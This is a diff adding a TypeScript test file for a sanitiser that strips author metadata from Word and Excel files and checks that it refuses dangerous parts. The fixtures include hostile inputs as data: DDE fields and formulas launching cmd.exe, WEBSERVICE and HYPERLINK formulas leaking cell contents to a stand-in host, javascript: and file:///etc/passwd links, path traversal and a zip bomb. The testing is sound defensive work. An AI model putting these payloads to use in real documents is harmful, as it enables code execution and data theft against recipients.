@@ -1,0 +1,104 @@
+/** Word and Excel files as they are handed out: what would run, fetch or hide is refused by its name, who made them is gone. */
+import { unzipSync, zipSync } from 'fflate'
+import sharp from 'sharp'
+import { describe, expect, it } from 'vitest'
+import { cleanOffice } from '../../src/media/child/cleanOffice.ts'
+import { DOCX, fileKind, HEAD, XLSX } from '../../src/policy/gate/fileKind.ts'
+import { docxOf, relation, xlsxOf } from '../support/office.ts'
+
+const text = (bytes: Buffer, name: string): string => Buffer.from(unzipSync(bytes)[name] ?? new Uint8Array()).toString()
+const taken = async (bytes: Buffer) => {
+  const answer = await cleanOffice(bytes)
+  if (!('bytes' in answer)) throw new Error(JSON.stringify(answer))
+  return answer
+}
+const field = (code: string): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r></w:p>`
+
+describe('a Word file', () => {
+  it('keeps its words and says no more who made it, on which machine and from which template', async () => {
+    const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#284' } })
+      .withExif({ IFD0: { Artist: 'Nguyen Van A' } })
+      .jpeg()
+      .toBuffer()
+    const before = docxOf({
+      settings: '<w:attachedTemplate r:id="rId9"/><w:rsids><w:rsid w:val="00A1"/></w:rsids><w:zoom w:percent="100"/>',
+      rels:
+        relation('rId3', 'hyperlink', 'https://moet.gov.vn/', true) +
+        relation('rId4', 'image', 'media/image1.jpeg') +
+        relation('rId5', 'customXml', '../customXml/item1.xml'),
+      more: {
+        'word/_rels/settings.xml.rels': `<Relationships>${relation('rId9', 'attachedTemplate', 'file:///C:/Users/nguyenvana/mau.dotm', true)}</Relationships>`,
+        'word/media/image1.jpeg': photo,
+        'customXml/item1.xml': '<x>Nguyen Van A</x>',
+        'docProps/app.xml': '<Properties><Company>Nguyen Van A</Company></Properties>',
+      },
+    })
+    const { bytes, lienKet } = await taken(before)
+    expect(lienKet).toEqual(['https://moet.gov.vn/'])
+    expect(text(bytes, 'word/document.xml')).toContain('Biểu mẫu')
+    expect(text(bytes, 'word/settings.xml')).toBe('<w:settings xmlns:w="w"><w:zoom w:percent="100"/></w:settings>')
+    expect(Object.keys(unzipSync(bytes)).toSorted()).toEqual(['[Content_Types].xml', '_rels/.rels', 'word/_rels/document.xml.rels', 'word/_rels/settings.xml.rels', 'word/document.xml', 'word/media/image1.jpeg', 'word/settings.xml']) // prettier-ignore
+    const all = Object.values(unzipSync(bytes)).map((part) => Buffer.from(part).toString('latin1')).join() // prettier-ignore
+    for (const trace of ['Nguyen', 'nguyenvana', 'mau.dotm', 'docProps', 'customXml']) expect([trace, all.includes(trace)]).toEqual([trace, false])
+    expect(fileKind(bytes.subarray(0, HEAD))).toEqual({ loai: 'tep', kieu: DOCX })
+    // Cleaned again it is itself: its fingerprint holds.
+    expect((await taken(bytes)).bytes.equals(bytes)).toBe(true)
+  })
+
+  it.each([
+    ['macro', docxOf({ more: { 'word/vbaProject.bin': 'x' } })],
+    ['macro', docxOf({ types: '<Override PartName="/word/x.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>' })],
+    ['activeX', docxOf({ more: { 'word/activeX/activeX1.xml': '<x/>' } })],
+    ['embedded', docxOf({ more: { 'word/embeddings/oleObject1.bin': 'x' } })],
+    ['embedded', docxOf({ body: '<w:altChunk r:id="rId3"/>' })],
+    ['embedded', docxOf({ body: '<w:p><o:OLEObject xmlns:o="o"/><o:oleObject/></w:p>' })],
+    ['external', docxOf({ rels: relation('rId3', 'image', 'https://x.example/a.png', true) })],
+    ['external', docxOf({ rels: relation('rId3', 'frame', 'https://x.example/', true) })],
+    ['tracked', docxOf({ body: '<w:p><w:del w:author="A"><w:r><w:delText>bí mật</w:delText></w:r></w:del></w:p>' })],
+    ['hidden', docxOf({ body: '<w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>bí mật</w:t></w:r></w:p>' })],
+    ['comments', docxOf({ more: { 'word/comments.xml': '<x/>' } })],
+    ['field', docxOf({ body: field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"') })],
+    [
+      'field',
+      docxOf({ body: '<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "https://x.example/a.png"</w:instrText></w:r></w:p>' }),
+    ],
+    ['field', docxOf({ body: '<w:fldSimple w:instr=" includetext &quot;\\\\\\\\may\\\\tep&quot;"/>' })],
+    ['picture', docxOf({ more: { 'word/media/image1.emf': 'x' } })],
+    ['picture', docxOf({ more: { 'word/media/image1.png': '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>' } })],
+    ['doctype', docxOf({ more: { 'word/styles.xml': '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>' } })],
+    ['unknown', docxOf({ more: { 'word/../../etc/passwd': 'x' } })],
+    ['unknown', docxOf({ more: { 'word/chay.exe': 'MZ' } })],
+    ['unknown', docxOf({ more: { 'word/styles.xml': new Uint8Array([0xff, 0xfe, 0x3c, 0x00]) } })],
+    ['unknown', docxOf({ more: { 'xl/workbook.xml': '<x/>' } })],
+  ])('with %s is refused by that: %#', async (fault, bytes) => expect(await cleanOffice(bytes)).toEqual({ fault }))
+
+  it('that leads to a file of its reader, or to a script, is refused by that address', async () => {
+    for (const url of ['javascript:alert(1)', 'file:///etc/passwd'])
+      expect(await cleanOffice(docxOf({ rels: relation('rId3', 'hyperlink', url, true) }))).toEqual({ badLink: url })
+  })
+
+  it('cut at each tenth, or no file at all, is unreadable; a bomb is too large and stops as it grows', async () => {
+    const whole = docxOf()
+    for (let tenth = 1; tenth < 9; tenth += 1) expect(await cleanOffice(whole.subarray(0, (whole.length * tenth) / 10))).not.toHaveProperty('bytes')
+    expect(await cleanOffice(Buffer.from('PK\x03\x04 word/document.xml'))).not.toHaveProperty('bytes')
+    const bomb = Buffer.from(zipSync({ '[Content_Types].xml': Buffer.from('<x/>'), 'word/document.xml': Buffer.alloc(100_000_000) }))
+    expect([bomb.length < 200_000, await cleanOffice(bomb)]).toEqual([true, { refused: 'OFFICE_TOO_LARGE' }])
+  })
+})
+
+describe('an Excel file', () => {
+  it('keeps its cells, without the folder it lay in', async () => {
+    const { bytes } = await taken(xlsxOf({ cells: '<c r="A1"><f>SUM(B1:B3)</f><v>6</v></c><c r="A2"><f>HYPERLINK("https://moet.gov.vn/","Bộ")</f></c>' }))
+    expect([text(bytes, 'xl/workbook.xml').includes('nguyenvana'), text(bytes, 'xl/worksheets/sheet1.xml').includes('SUM(B1:B3)')]).toEqual([false, true])
+    expect(fileKind(bytes.subarray(0, HEAD))).toEqual({ loai: 'tep', kieu: XLSX })
+  })
+  it.each([
+    ['hidden', xlsxOf({ sheets: '<sheet name="A" state="veryHidden"/>' })],
+    ['formula', xlsxOf({ cells: '<c><f>WEBSERVICE("https://x.example/?"&amp;A1)</f></c>' })],
+    ['formula', xlsxOf({ cells: "<c><f>cmd|'/c calc'!A0</f></c>" })],
+    ['formula', xlsxOf({ cells: '<c><f>HYPERLINK("https://x.example/?"&amp;A1,"x")</f></c>' })],
+    ['external', xlsxOf({ more: { 'xl/externalLinks/externalLink1.xml': '<x/>' } })],
+    ['pivot', xlsxOf({ more: { 'xl/pivotCache/pivotCacheRecords1.xml': '<x/>' } })],
+    ['macro', xlsxOf({ more: { 'xl/macrosheets/sheet1.xml': '<x/>' } })],
+  ])('with %s is refused by that: %#', async (fault, bytes) => expect(await cleanOffice(bytes)).toEqual({ fault }))
+})
